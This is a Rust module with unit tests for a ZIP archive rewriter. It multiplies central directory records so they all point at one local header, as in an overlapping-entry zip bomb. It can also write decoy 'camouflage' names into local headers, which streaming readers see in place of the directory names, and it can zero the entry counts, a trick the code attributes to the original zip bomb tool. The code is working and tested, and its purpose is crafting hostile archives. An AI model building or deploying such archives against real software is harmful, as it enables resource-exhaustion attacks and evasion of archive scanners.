//! Single-pass archive rewriter.
//!
//! Consumes the assembled archive and emits a new buffer in one forward scan.
//! Three record kinds are rewritten on the way:
//!
//! 1. Local file headers: every header after the first may take a camouflage
//!    name, so a streaming reader sees one real name followed by repeats.
//! 2. Central directory records: the template's record is followed by
//!    `files_amount - 1` copies that differ only by name. The copies point at
//!    the template's local header; no data is added for them.
//! 3. End of central directory: counts, directory size and directory offset
//!    are recomputed from what the first two steps changed.
//!
//! ## State Machine
//!
//! ```text
//!            +-------------- signature lookahead ---------------+
//!            |                      |                           |
//!            v                      v                           v
//!      InLocalHeader       InCentralDirectory               InTrailer
//!            |                      |                           |
//!            +------------------> Scanning <--------------------+
//!                                   |
//!                                   v (cursor == end)
//!                                  Done
//! ```
//!
//! Bytes under no recognized signature are copied through verbatim. Entry data
//! is skipped by the compressed size its local header carries and is never
//! scanned for signatures.

use crate::error::{Error, Result};
use crate::format::{
    self, central, eocd, local, Signature, CENTRAL_HEADER_LEN, EOCD_LEN, FLAG_DATA_DESCRIPTOR,
    LOCAL_HEADER_LEN,
};
use crate::namer::EntryNamer;
use crate::MAX_ENTRIES;
use bytes::BufMut;
use std::collections::HashSet;
use tracing::{debug, trace};

/// How the rewritten trailer reports the number of entries
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum EntryCountMode {
    /// Both count fields hold the real number of directory records
    #[default]
    Declared,
    /// Both count fields are zero, as written by the original zip bomb tool.
    ///
    /// Readers that trust the directory size still list every record; readers
    /// that trust the count see an empty archive.
    Zeroed,
}

/// What a rewrite pass changed
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RewriteStats {
    /// Local file headers seen
    pub local_headers: usize,
    /// Central directory records copied from the input
    pub central_records: usize,
    /// Central directory records synthesized for the template
    pub synthesized_records: usize,
    /// Bytes removed from the local header region by name substitution
    /// (negative when the camouflage name is longer than the real names)
    pub reduced_header_bytes: i64,
    /// Bytes added to the central directory by synthesized records
    pub added_directory_bytes: u64,
    /// Directory names that appeared more than once
    pub duplicate_names: usize,
    /// Entry count written to the trailer
    pub declared_entries: u16,
}

/// Scanner states
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum State {
    Scanning,
    InLocalHeader,
    InCentralDirectory,
    InTrailer,
    Done,
}

/// Rewrites an assembled archive into its expanded form
pub struct Rewriter<'a> {
    namer: &'a dyn EntryNamer,
    files_amount: usize,
    template_name: &'a str,
    camouflage: Option<&'a str>,
    entry_count: EntryCountMode,
}

impl std::fmt::Debug for Rewriter<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Rewriter")
            .field("files_amount", &self.files_amount)
            .field("template_name", &self.template_name)
            .field("camouflage", &self.camouflage)
            .field("entry_count", &self.entry_count)
            .finish_non_exhaustive()
    }
}

impl<'a> Rewriter<'a> {
    /// Creates a rewriter expanding the record named `template_name` to
    /// `files_amount` directory entries
    pub fn new(namer: &'a dyn EntryNamer, files_amount: usize, template_name: &'a str) -> Self {
        Self {
            namer,
            files_amount,
            template_name,
            camouflage: None,
            entry_count: EntryCountMode::default(),
        }
    }

    /// Sets the name written into every local header after the first
    pub fn camouflage(mut self, name: Option<&'a str>) -> Self {
        self.camouflage = name;
        self
    }

    /// Sets how the trailer reports the entry count
    pub fn entry_count(mut self, mode: EntryCountMode) -> Self {
        self.entry_count = mode;
        self
    }

    /// Rewrites `input` into a new buffer
    pub fn rewrite(&self, input: &[u8]) -> Result<(Vec<u8>, RewriteStats)> {
        Signature::LocalFileHeader.expect_at(input, 0)?;

        let mut pass = Pass::new(input, self.estimated_output_len(input.len()));
        let mut state = State::Scanning;

        debug!(
            "Rewriting {} bytes: {} entries from '{}'",
            input.len(),
            self.files_amount,
            self.template_name
        );

        loop {
            state = match state {
                State::Scanning => pass.next_state(),
                State::InLocalHeader => {
                    pass.local_header(self.camouflage)?;
                    State::Scanning
                }
                State::InCentralDirectory => {
                    pass.central_record(self)?;
                    State::Scanning
                }
                State::InTrailer => {
                    pass.trailer(self.entry_count)?;
                    State::Scanning
                }
                State::Done => break,
            };
        }

        pass.finish()
    }

    fn estimated_output_len(&self, input_len: usize) -> usize {
        let per_record = CENTRAL_HEADER_LEN + self.template_name.len() + 8;
        input_len.saturating_add(self.files_amount.saturating_sub(1).saturating_mul(per_record))
    }
}

/// Mutable state of one rewrite
struct Pass<'a> {
    input: &'a [u8],
    out: Vec<u8>,
    cursor: usize,
    first_local_header_seen: bool,
    /// Old and new offset of every local header, in input order
    relocations: Vec<(usize, usize)>,
    directory_start: Option<usize>,
    directory_names: HashSet<Vec<u8>>,
    trailer_seen: bool,
    stats: RewriteStats,
}

impl<'a> Pass<'a> {
    fn new(input: &'a [u8], capacity: usize) -> Self {
        Self {
            input,
            out: Vec::with_capacity(capacity),
            cursor: 0,
            first_local_header_seen: false,
            relocations: Vec::new(),
            directory_start: None,
            directory_names: HashSet::new(),
            trailer_seen: false,
            stats: RewriteStats::default(),
        }
    }

    /// Pick the next state from the signature under the cursor, copying
    /// unrecognized bytes through
    fn next_state(&mut self) -> State {
        if self.cursor >= self.input.len() {
            return State::Done;
        }

        match Signature::peek(self.input, self.cursor) {
            Some(Signature::LocalFileHeader) => State::InLocalHeader,
            Some(Signature::CentralDirectory) => State::InCentralDirectory,
            Some(Signature::EndOfCentralDirectory) => State::InTrailer,
            None => {
                let run_end = (self.cursor + 1..self.input.len())
                    .find(|&offset| Signature::peek(self.input, offset).is_some())
                    .unwrap_or(self.input.len());
                trace!(
                    "Copying {} unrecognized bytes at {}",
                    run_end - self.cursor,
                    self.cursor
                );
                self.out.put_slice(&self.input[self.cursor..run_end]);
                self.cursor = run_end;
                State::Scanning
            }
        }
    }

    fn local_header(&mut self, camouflage: Option<&str>) -> Result<()> {
        let input = self.input;
        let offset = self.cursor;
        let header = format::slice(input, offset, LOCAL_HEADER_LEN, "local file header")?;

        if format::read_u16(header, local::FLAGS)? & FLAG_DATA_DESCRIPTOR != 0 {
            return Err(Error::malformed(
                offset,
                "local header defers its sizes to a data descriptor",
            ));
        }

        let name_len = format::read_u16(header, local::NAME_LEN)? as usize;
        let extra_len = format::read_u16(header, local::EXTRA_LEN)? as usize;
        let compressed_size = format::read_u32(header, local::COMPRESSED_SIZE)? as usize;

        let name_start = offset + LOCAL_HEADER_LEN;
        let extra_start = name_start + name_len;
        let data_start = extra_start + extra_len;
        let name = format::slice(input, name_start, name_len, "entry name")?;
        let extra = format::slice(input, extra_start, extra_len, "extra field")?;
        let data = format::slice(input, data_start, compressed_size, "entry data")?;

        let substitute = match camouflage {
            Some(fake) if self.first_local_header_seen => fake.as_bytes(),
            _ => name,
        };
        self.first_local_header_seen = true;

        self.relocations.push((offset, self.out.len()));
        self.out
            .reserve(LOCAL_HEADER_LEN + substitute.len() + extra.len() + data.len());
        self.out.put_slice(&header[..local::NAME_LEN]);
        self.out.put_u16_le(format::name_len(substitute)?);
        self.out.put_slice(&header[local::EXTRA_LEN..]);
        self.out.put_slice(substitute);
        self.out.put_slice(extra);
        self.out.put_slice(data);

        self.stats.local_headers += 1;
        self.stats.reduced_header_bytes += name.len() as i64 - substitute.len() as i64;
        self.cursor = data_start + compressed_size;

        trace!(
            "Local header at {} -> {}: '{}' stored as '{}'",
            offset,
            self.relocations[self.relocations.len() - 1].1,
            String::from_utf8_lossy(name),
            String::from_utf8_lossy(substitute)
        );
        Ok(())
    }

    fn central_record(&mut self, rewriter: &Rewriter<'_>) -> Result<()> {
        let input = self.input;
        let offset = self.cursor;
        let prefix = format::slice(input, offset, CENTRAL_HEADER_LEN, "central directory record")?;

        let name_len = format::read_u16(prefix, central::NAME_LEN)? as usize;
        let extra_len = format::read_u16(prefix, central::EXTRA_LEN)? as usize;
        let comment_len = format::read_u16(prefix, central::COMMENT_LEN)? as usize;
        let record_len = CENTRAL_HEADER_LEN + name_len + extra_len + comment_len;
        let record = format::slice(input, offset, record_len, "central directory record")?;
        let name = &record[CENTRAL_HEADER_LEN..CENTRAL_HEADER_LEN + name_len];
        let trailing = &record[CENTRAL_HEADER_LEN + name_len..];

        let local_offset = format::read_u32(prefix, central::LOCAL_HEADER_OFFSET)? as usize;
        let relocated = self.relocate(local_offset).ok_or_else(|| {
            Error::malformed(
                offset,
                format!("record points at {}, where no local header was seen", local_offset),
            )
        })?;

        let mut fixed = [0u8; CENTRAL_HEADER_LEN];
        fixed.copy_from_slice(prefix);
        format::patch_u32(
            &mut fixed,
            central::LOCAL_HEADER_OFFSET,
            format::to_u32("local header offset", relocated as u64)?,
        );

        self.directory_start.get_or_insert(self.out.len());
        self.out.put_slice(&fixed);
        self.out.put_slice(&record[CENTRAL_HEADER_LEN..]);
        self.stats.central_records += 1;
        self.note_name(name.to_vec());

        if name == rewriter.template_name.as_bytes() {
            self.expand(rewriter, &fixed, trailing)?;
        }

        self.cursor = offset + record_len;
        Ok(())
    }

    /// Emit one record per generated name right after the template's record
    fn expand(
        &mut self,
        rewriter: &Rewriter<'_>,
        fixed: &[u8; CENTRAL_HEADER_LEN],
        trailing: &[u8],
    ) -> Result<()> {
        let before = self.out.len();

        for index in 1..rewriter.files_amount {
            let name = rewriter.namer.name(index).into_bytes();
            let name_len = format::name_len(&name)?;

            self.out.put_slice(&fixed[..central::NAME_LEN]);
            self.out.put_u16_le(name_len);
            self.out.put_slice(&fixed[central::EXTRA_LEN..]);
            self.out.put_slice(&name);
            self.out.put_slice(trailing);
            self.note_name(name);
        }

        let added = self.out.len() - before;
        self.stats.synthesized_records += rewriter.files_amount.saturating_sub(1);
        self.stats.added_directory_bytes += added as u64;

        debug!(
            "Synthesized {} directory records ({} bytes) after '{}'",
            rewriter.files_amount.saturating_sub(1),
            added,
            rewriter.template_name
        );
        Ok(())
    }

    fn trailer(&mut self, mode: EntryCountMode) -> Result<()> {
        let input = self.input;
        let offset = self.cursor;
        if self.trailer_seen {
            return Err(Error::malformed(offset, "second end of central directory record"));
        }

        let prefix = format::slice(input, offset, EOCD_LEN, "end of central directory")?;
        let comment_len = format::read_u16(prefix, eocd::COMMENT_LEN)? as usize;
        let comment = format::slice(input, offset + EOCD_LEN, comment_len, "archive comment")?;

        let old_on_disk = format::read_u16(prefix, eocd::ENTRIES_ON_DISK)?;
        let old_total = format::read_u16(prefix, eocd::ENTRIES_TOTAL)?;
        let old_size = format::read_u32(prefix, eocd::DIRECTORY_SIZE)?;
        let old_offset = format::read_u32(prefix, eocd::DIRECTORY_OFFSET)?;

        let synthesized = self.stats.synthesized_records;
        let on_disk = grown_count(old_on_disk, synthesized)?;
        let total = grown_count(old_total, synthesized)?;
        let (on_disk, total) = match mode {
            EntryCountMode::Declared => (on_disk, total),
            EntryCountMode::Zeroed => {
                debug!("Writing zero entry counts instead of {}", total);
                (0, 0)
            }
        };

        let new_size = format::to_u32(
            "central directory size",
            u64::from(old_size) + self.stats.added_directory_bytes,
        )?;
        let new_offset = i64::from(old_offset) - self.stats.reduced_header_bytes;
        let new_offset = u64::try_from(new_offset)
            .map_err(|_| Error::malformed(offset, "central directory offset became negative"))?;
        let new_offset = format::to_u32("central directory offset", new_offset)?;

        let actual_start = self.directory_start.unwrap_or(self.out.len());
        let actual_size = self.out.len() - actual_start;
        if new_offset as usize != actual_start || new_size as usize != actual_size {
            return Err(Error::malformed(
                offset,
                format!(
                    "trailer declares directory {}+{}, rewritten directory is {}+{}",
                    new_offset, new_size, actual_start, actual_size
                ),
            ));
        }

        let mut fixed = [0u8; EOCD_LEN];
        fixed.copy_from_slice(prefix);
        format::patch_u16(&mut fixed, eocd::ENTRIES_ON_DISK, on_disk);
        format::patch_u16(&mut fixed, eocd::ENTRIES_TOTAL, total);
        format::patch_u32(&mut fixed, eocd::DIRECTORY_SIZE, new_size);
        format::patch_u32(&mut fixed, eocd::DIRECTORY_OFFSET, new_offset);
        self.out.put_slice(&fixed);
        self.out.put_slice(comment);

        debug!(
            "Trailer: {} -> {} entries, directory {}+{} -> {}+{}",
            old_total, total, old_offset, old_size, new_offset, new_size
        );

        self.stats.declared_entries = total;
        self.trailer_seen = true;
        self.cursor = offset + EOCD_LEN + comment_len;
        Ok(())
    }

    fn relocate(&self, old_offset: usize) -> Option<usize> {
        self.relocations
            .binary_search_by_key(&old_offset, |&(old, _)| old)
            .ok()
            .map(|index| self.relocations[index].1)
    }

    fn note_name(&mut self, name: Vec<u8>) {
        if !self.directory_names.insert(name) {
            self.stats.duplicate_names += 1;
        }
    }

    fn finish(self) -> Result<(Vec<u8>, RewriteStats)> {
        if !self.trailer_seen {
            return Err(Error::malformed(
                self.input.len(),
                "no end of central directory record",
            ));
        }
        debug!(
            "Rewrite complete: {} -> {} bytes, {} local headers, {} + {} directory records",
            self.input.len(),
            self.out.len(),
            self.stats.local_headers,
            self.stats.central_records,
            self.stats.synthesized_records
        );
        Ok((self.out, self.stats))
    }
}

/// Grow a trailer count by the synthesized records
fn grown_count(old: u16, synthesized: usize) -> Result<u16> {
    let requested = usize::from(old) + synthesized;
    u16::try_from(requested)
        .ok()
        .filter(|&count| usize::from(count) <= MAX_ENTRIES)
        .ok_or(Error::TooManyEntries {
            requested,
            max: MAX_ENTRIES,
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::assemble::{assemble, ExtraEntry};
    use crate::inspect::{extract, read_central_directory, read_local_headers};
    use pretty_assertions::assert_eq;

    fn namer(index: usize) -> String {
        format!("T-{}", index)
    }

    fn rewrite(input: &[u8], files_amount: usize, fake: Option<&str>) -> (Vec<u8>, RewriteStats) {
        Rewriter::new(&namer, files_amount, "T-0")
            .camouflage(fake)
            .rewrite(input)
            .unwrap()
    }

    #[test]
    fn test_expands_template_record() {
        let input = assemble("T-0", 1024, &[]).unwrap();
        let (output, stats) = rewrite(&input, 5, None);

        let directory = read_central_directory(&output).unwrap();
        assert_eq!(directory.names(), vec!["T-0", "T-1", "T-2", "T-3", "T-4"]);
        assert_eq!(directory.declared_entries, 5);
        assert_eq!(directory.declared_entries_on_disk, 5);
        assert!(directory.entries.iter().all(|e| e.local_header_offset == 0));

        assert_eq!(stats.synthesized_records, 4);
        assert_eq!(stats.local_headers, 1);
        assert_eq!(stats.reduced_header_bytes, 0);
        assert_eq!(stats.added_directory_bytes, 4 * (CENTRAL_HEADER_LEN as u64 + 3));
        assert_eq!(output.len(), input.len() + stats.added_directory_bytes as usize);
    }

    #[test]
    fn test_single_entry_is_copied_verbatim() {
        let input = assemble("T-0", 64, &[ExtraEntry::new("x", b"y".to_vec())]).unwrap();
        let (output, stats) = rewrite(&input, 1, None);
        assert_eq!(output, input);
        assert_eq!(stats.synthesized_records, 0);
        assert_eq!(stats.declared_entries, 2);
    }

    #[test]
    fn test_camouflage_keeps_first_name() {
        let extras = vec![
            ExtraEntry::new("Main.class", b"main".to_vec()),
            ExtraEntry::new("Util.class", b"util".to_vec()),
        ];
        let input = assemble("T-0", 32, &extras).unwrap();
        let (output, stats) = rewrite(&input, 3, Some("FakedEntryName"));

        let locals: Vec<String> = read_local_headers(&output)
            .unwrap()
            .into_iter()
            .map(|h| h.name)
            .collect();
        assert_eq!(locals, vec!["T-0", "FakedEntryName", "FakedEntryName"]);

        // "Main.class" and "Util.class" are 10 bytes, the fake name 14
        assert_eq!(stats.reduced_header_bytes, -8);

        let directory = read_central_directory(&output).unwrap();
        assert_eq!(
            directory.names(),
            vec!["T-0", "T-1", "T-2", "Main.class", "Util.class"]
        );
        assert_eq!(extract(&output, &directory.entries[3]).unwrap(), b"main");
        assert_eq!(extract(&output, &directory.entries[4]).unwrap(), b"util");
    }

    #[test]
    fn test_shorter_camouflage_moves_directory_back() {
        let extras = vec![ExtraEntry::new("a-rather-long-name.txt", b"data".to_vec())];
        let input = assemble("T-0", 32, &extras).unwrap();
        let before = read_central_directory(&input).unwrap();

        let (output, stats) = rewrite(&input, 2, Some("x"));
        assert_eq!(stats.reduced_header_bytes, 21);

        let after = read_central_directory(&output).unwrap();
        assert_eq!(after.offset, before.offset - 21);
        assert_eq!(extract(&output, &after.entries[2]).unwrap(), b"data");
    }

    #[test]
    fn test_zeroed_entry_count() {
        let input = assemble("T-0", 32, &[]).unwrap();
        let (output, stats) = Rewriter::new(&namer, 4, "T-0")
            .entry_count(EntryCountMode::Zeroed)
            .rewrite(&input)
            .unwrap();

        let directory = read_central_directory(&output).unwrap();
        assert_eq!(directory.declared_entries, 0);
        assert_eq!(directory.declared_entries_on_disk, 0);
        assert_eq!(directory.entries.len(), 4);
        assert_eq!(stats.declared_entries, 0);
    }

    #[test]
    fn test_rejects_missing_local_signature() {
        let mut input = assemble("T-0", 32, &[]).unwrap();
        input[2] = 0x05;
        input[3] = 0x06;
        let err = Rewriter::new(&namer, 2, "T-0").rewrite(&input).unwrap_err();
        assert!(matches!(err, Error::MalformedArchive { offset: 0, .. }));
    }

    #[test]
    fn test_rejects_truncated_archive() {
        let input = assemble("T-0", 32, &[]).unwrap();
        let truncated = &input[..input.len() - 4];
        let err = Rewriter::new(&namer, 2, "T-0")
            .rewrite(truncated)
            .unwrap_err();
        assert!(matches!(err, Error::MalformedArchive { .. }));

        let err = Rewriter::new(&namer, 2, "T-0")
            .rewrite(&input[..20])
            .unwrap_err();
        assert!(matches!(err, Error::MalformedArchive { .. }));
    }

    #[test]
    fn test_rejects_data_descriptor_headers() {
        let mut input = assemble("T-0", 32, &[]).unwrap();
        format::patch_u16(&mut input, local::FLAGS, FLAG_DATA_DESCRIPTOR);
        assert!(Rewriter::new(&namer, 2, "T-0").rewrite(&input).is_err());
    }

    #[test]
    fn test_rejects_dangling_local_header_offset() {
        let mut input = assemble("T-0", 32, &[]).unwrap();
        let directory = read_central_directory(&input).unwrap();
        let record = directory.entries[0].record_offset;
        format::patch_u32(&mut input[record..], central::LOCAL_HEADER_OFFSET, 7);

        let err = Rewriter::new(&namer, 2, "T-0").rewrite(&input).unwrap_err();
        assert!(err.to_string().contains("no local header"));
    }

    #[test]
    fn test_counts_duplicate_names() {
        let input = assemble("T-0", 32, &[ExtraEntry::new("same", Vec::new())]).unwrap();
        let constant = |_: usize| "same".to_string();
        let (_, stats) = Rewriter::new(&constant, 4, "T-0").rewrite(&input).unwrap();
        // Three synthesized "same" records plus the extra entry
        assert_eq!(stats.duplicate_names, 3);
    }

    #[test]
    fn test_payload_signatures_are_not_structure() {
        let payload = [
            Signature::CentralDirectory.magic(),
            Signature::EndOfCentralDirectory.magic(),
            Signature::LocalFileHeader.magic(),
        ]
        .concat();
        let data: Vec<u8> = payload.iter().cycle().take(512).copied().collect();
        let input = assemble("T-0", 32, &[ExtraEntry::new("sig.bin", data.clone())]).unwrap();
        let (output, _) = rewrite(&input, 3, Some("f"));

        let directory = read_central_directory(&output).unwrap();
        assert_eq!(extract(&output, &directory.entries[3]).unwrap(), data);
    }

    #[test]
    fn test_grown_count_limit() {
        assert_eq!(grown_count(2, 10).unwrap(), 12);
        assert_eq!(grown_count(1, MAX_ENTRIES - 1).unwrap() as usize, MAX_ENTRIES);
        assert!(matches!(
            grown_count(2, MAX_ENTRIES - 1),
            Err(Error::TooManyEntries { .. })
        ));
    }
}
